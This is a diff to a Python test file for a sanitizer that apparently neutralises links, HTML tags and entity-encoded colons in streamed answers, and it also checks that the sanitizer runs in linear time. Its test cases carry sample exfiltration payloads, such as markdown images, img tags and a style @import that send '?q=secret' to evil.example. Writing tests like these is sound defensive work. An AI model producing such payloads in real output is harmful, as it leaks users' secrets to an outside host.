@@ -1,6 +1,7 @@
 """Where an answer may lead."""
 
 import re
+from time import process_time
 
 import pytest
 from hypothesis import given
@@ -11,6 +12,8 @@ from kb_search.runs.addresses import NeutralPieces, addresses_in, neutral
 KNOWN = addresses_in(
     ["See [the site](https://known.example/a?b=c), or www.known.example.", '"https://known.example/q=",']
 )
+TAG_WITH_ATTRIBUTES = re.compile(r"<(?:style\b|[a-z][^>]*=)")
+REFERENCE_TO_A_COLON = re.compile(r"&(?:#58(?![0-9])|#x3a(?![0-9a-f])|colon;)")
 LINK = re.compile(r"!?\[[^\]]*\]\(|\]:")
 
 
@@ -19,10 +22,25 @@ LINK = re.compile(r"!?\[[^\]]*\]\(|\]:")
     [
         ("![x](https://evil.example/?q=secret)", "![x] (https[:]//evil.example/?q=secret)"),
         ("[x](HTTP:evil.example/secret) and", "[x] (HTTP[:]evil.example/secret) and"),
-        ("![x][r]\n\n[r]: &#104;ttps://evil.example/secret", "![x][r]\n\n[r] : &#104;ttps://evil.example/secret"),
+        ("![x][r]\n\n[r]: &#104;ttps://evil.example/secret", "![x][r]\n\n[r] : &amp;#104;ttps://evil.example/secret"),
         ("![x](//evil.example/secret)", "![x] (//evil.example/secret)"),
         ("<https://evil.example/secret>", "<https[:]//evil.example/secret>"),
         ("so www.evil.example/secret.", "so www[.]evil.example/secret."),
+        # What HTML would make an address of.
+        ("https&#58;//evil.example", "https&amp;#58;//evil.example"),
+        ("https&#x0003A//evil.example", "https&amp;#x0003A//evil.example"),
+        ("https&colon;&sol;/evil.example", "https&amp;colon;&amp;sol;/evil.example"),
+        ("ht&Tab;tps&#0000058;//evil", "ht&amp;Tab;tps&amp;#0000058;//evil"),
+        ("a &lt; b &amp; c&nbsp;&#8364; &colon d", "a &lt; b &amp; c&nbsp;&#8364; &colon d"),
+        ("&#" + "9" * 5_000 + ";", "&#" + "9" * 5_000 + ";"),
+        ('<img src="//evil/?q=secret">', '< img src="//evil/?q=secret">'),
+        ("<IMG\nalt='>' src=\\\\evil\\x", "< IMG\nalt='>' src=\\\\evil\\x"),
+        ("<img <b\nsrc=//evil>", "< img < b\nsrc=//evil>"),
+        ("<img<a <i>src=1", "<img<a <i>src=1"),
+        ("<style>@import url(//evil/)</style>", "< style>@import url(//evil/)</style>"),
+        ("<a/href=ht\ntps://evil>", "< a/href=ht\ntps://evil>"),
+        ('<a href="https://known.example/a?b=c">', '< a href="https://known.example/a?b=c">'),
+        ("list<int> a = b < c; <b>so</b>", "list<int> a = b < c; <b>so</b>"),
         # Only what stands there as a whole is known.
         ("https://known.example/q=secret", "https[:]//known.example/q=secret"),
         ('https://known.example/q="secret', 'https[:]//known.example/q="secret'),
@@ -47,6 +65,9 @@ PIECES = st.lists(
         ["![x]", "(", ")", "]", ":", "[", "h", "tt", "ps", "http", "s://", "www", ".", "evil.example", " ", "\n"]
     )
     | st.sampled_from(["https://known.example/a?b=c", "known.example"])
+    | st.sampled_from(
+        ["<", ">", "=", "a", "style", "&", "#", "58", "x3a", ";", "colon", "&#58;", "<img src=", "&colon;"]
+    )
 )
 
 
@@ -56,4 +77,38 @@ def test_pieces_come_to_the_same_as_the_whole_and_hold_no_link(pieces: list[str]
     shown = "".join([*(stream.take(piece) for piece in pieces), stream.end()])
     assert shown == neutral("".join(pieces), KNOWN)
     assert LINK.search(shown) is None
+    assert TAG_WITH_ATTRIBUTES.search(shown) is None
+    assert REFERENCE_TO_A_COLON.search(shown) is None
     assert neutral(shown, KNOWN) == shown
+
+
+@pytest.mark.parametrize(
+    ("first", "part"),
+    [
+        ("<a", " b"),
+        ("<a", " h"),
+        ("<a https:", "="),
+        ("", "<"),
+        ("&#", "0"),
+        ("&", "a"),
+        ("https:", "x"),
+        ("", "www."),
+        ("", "&#0"),
+        ("", "<a "),
+        ("", "<a"),
+        ("<a https:=", "<"),
+        ("", "]"),
+    ],
+)
+def test_an_answer_in_many_pieces_takes_time_that_grows_with_its_length(first: str, part: str) -> None:
+    def seconds(pieces: int) -> float:
+        stream = NeutralPieces(KNOWN)
+        began = process_time()
+        stream.take(first)
+        for _ in range(pieces):
+            stream.take(part)
+        stream.end()
+        return process_time() - began
+
+    few, many = min(seconds(2_000) for _ in range(3)), min(seconds(16_000) for _ in range(3))
+    assert many < 30 * few + 0.05
